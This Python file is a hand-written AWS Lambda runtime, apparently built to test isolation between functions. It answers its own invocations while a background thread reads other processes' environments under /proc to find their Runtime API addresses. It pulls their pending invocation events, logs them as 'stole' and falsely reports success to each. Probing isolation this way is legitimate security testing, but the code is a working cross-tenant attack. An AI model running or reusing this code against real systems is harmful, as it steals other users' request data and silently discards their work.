"""A Lambda runtime written by hand that tries to take other functions'
invocations. It answers its own; meanwhile a thread looks for every other
execution environment's Runtime API (in the environment of each process it
can read, as any local program can) and asks it for the next invocation,
which it would answer with a success. It writes each attempt, and what it
took, to THIEF_RECORD as JSON lines."""
import json
import os
import threading
import time
import urllib.error
import urllib.request

OWN = os.environ["AWS_LAMBDA_RUNTIME_API"]


def record(entry):
    with open(os.environ["THIEF_RECORD"], "a") as f:
        f.write(json.dumps(entry) + "\n")


def other_apis():
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            if entry.startswith(b"AWS_LAMBDA_RUNTIME_API="):
                api = entry.split(b"=", 1)[1].decode()
                if api != OWN:
                    found.add(api)
    return found


def steal():
    while True:
        for api in other_apis():
            record({"found": api})
            base = "http://%s/2018-06-01/runtime" % api
            try:
                with urllib.request.urlopen(base + "/invocation/next", timeout=5) as asked:
                    request_id = asked.headers["Lambda-Runtime-Aws-Request-Id"]
                    event = json.loads(asked.read())
                record({"tried": api, "status": 200})
                record({"stole": event})
                answer = urllib.request.Request(
                    base + "/invocation/%s/response" % request_id, data=b"{}", method="POST"
                )
                urllib.request.urlopen(answer, timeout=5).read()
            except urllib.error.HTTPError as e:
                record({"tried": api, "status": e.code, "answer": e.read().decode()})
            except Exception as e:  # a timeout, or an API that went away
                record({"tried": api, "error": str(e)})
        time.sleep(0.05)


threading.Thread(target=steal, daemon=True).start()
BASE = "http://%s/2018-06-01/runtime" % OWN
while True:
    with urllib.request.urlopen(BASE + "/invocation/next") as asked:
        request_id = asked.headers["Lambda-Runtime-Aws-Request-Id"]
        record({"own": json.loads(asked.read())})
    answer = urllib.request.Request(
        BASE + "/invocation/%s/response" % request_id, data=b"{}", method="POST"
    )
    urllib.request.urlopen(answer).read()
